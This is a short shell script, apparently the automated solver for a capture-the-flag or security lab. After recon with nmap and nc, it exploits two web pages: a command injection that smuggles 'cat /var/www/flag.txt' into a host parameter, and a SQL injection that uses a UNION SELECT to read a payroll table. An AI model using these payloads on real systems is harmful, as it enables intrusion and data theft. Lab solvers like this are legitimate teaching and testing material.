#!/bin/sh
# Run on the attacker box, as the team would from its SSH session. Prints RECOVERED lines.
set -eu
web=http://web:8080

echo "== recon: the web tier answers on 8080, the database is out of reach" >&2
nmap -sT -Pn -p 8080 web | grep -q '8080/tcp open' || { echo "web:8080 is not open" >&2; exit 1; }
if nc -z -w 2 db 3306 2>/dev/null; then echo "db:3306 should not be reachable from here" >&2; exit 1; fi

echo "== flag_rce: the address goes to the shell" >&2
page=$(curl -fsS --get --data-urlencode "host=127.0.0.1; cat /var/www/flag.txt" "$web/netcheck.php")
echo "RECOVERED flag_rce $(printf '%s' "$page" | grep -o 'FLAG{[0-9a-f]*}' | head -n1)"

echo "== flag_sqli: the search text goes into the SQL statement" >&2
curl -fsS --get --data-urlencode "name='" "$web/directory.php" | grep -q 'SQL syntax' \
  || { echo "no SQL error for a lone quote" >&2; exit 1; }
page=$(curl -fsS --get --data-urlencode "name=nobody' UNION SELECT name, note FROM hr.payroll -- " \
  "$web/directory.php")
echo "RECOVERED flag_sqli $(printf '%s' "$page" | grep -o 'FLAG{[0-9a-f]*}' | head -n1)"
